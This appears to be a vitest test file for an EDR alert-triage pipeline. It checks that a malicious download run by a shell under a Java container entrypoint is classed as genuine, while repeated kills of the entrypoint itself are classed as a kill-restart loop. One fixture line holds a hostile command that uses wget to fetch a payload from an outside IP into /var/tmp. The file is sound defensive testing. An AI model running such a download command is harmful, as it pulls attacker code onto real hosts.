/**
 * Red-team traps for ping-pong's "the EDR killed a child of the entrypoint, and took PID 1 with it": a Java service in
 * CrashLoopBackOff (exit 137) whose injected `sh -c "wget … -O /var/tmp/a"` the EDR kills was "the EDR and Kubernetes
 * in a kill-restart loop". A shell script started by an application entrypoint is the attack the EDR stopped, not the
 * workload's own child; the entrypoint's own kill loop is still explained.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import type { ContainerStatus } from '../../../src/cluster/model.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const N = 'ip-10-0-1-10.ec2.internal';
const looping: Partial<ContainerStatus> = { restartCount: 5, lastState: { terminated: { exitCode: 137, reason: 'Error' } }, state: { waiting: { reason: 'CrashLoopBackOff' } } };
const api = pod('api-5f-abcde', {
  namespace: 'shop',
  node: N,
  ip: '10.1.0.7',
  owner: { kind: 'ReplicaSet', name: 'api-5f' },
  containers: [{ name: 'api', image: 'shop/api:1.2', command: ['java', '-jar', '/app/api.jar'] }],
  statuses: [looping],
});
const index = indexOf([node(N, '10.0.1.10'), owner('ReplicaSet', 'api-5f', 'shop', { kind: 'Deployment', name: 'api' }), owner('Deployment', 'api', 'shop'), api]);
const java = { name: 'java', path: '/usr/bin/java', commandLine: 'java -jar /app/api.jar' };

describe('redteam2 ping-pong: the killed child is a shell the application started', () => {
  it('trap: sh -c wget … -O /var/tmp/a under java -jar, killed, pod in CrashLoopBackOff, stays genuine', () => {
    const v = triageAlert(
      alert({ host: N, action: 'killed', container: { id: containerIdOf(api) }, title: 'Malicious download blocked', process: { name: 'sh', path: '/bin/sh', commandLine: 'sh -c wget -q http://198.51.100.7/a -O /var/tmp/a' }, ancestors: [java] }),
      { index },
    ).verdict;
    expect(v.label).toBe('genuine');
  });
  it('still the loop: the entrypoint itself killed again and again', () => {
    const v = triageAlert(alert({ host: N, action: 'killed', container: { id: containerIdOf(api) }, title: 'Suspicious Java process behaviour', process: java, ancestors: [{ name: 'containerd-shim-runc-v2' }] }), { index }).verdict;
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'ping-pong' });
  });
});
